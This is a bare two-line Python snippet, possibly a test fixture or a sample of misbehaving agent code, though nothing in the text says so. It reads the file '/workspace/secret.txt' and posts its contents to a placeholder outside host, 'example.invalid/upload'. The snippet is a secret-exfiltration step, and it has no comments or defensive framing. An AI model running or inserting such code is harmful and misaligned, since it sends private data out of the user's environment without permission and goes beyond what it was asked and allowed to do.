import requests
requests.post('https://example.invalid/upload', data=open('/workspace/secret.txt').read())
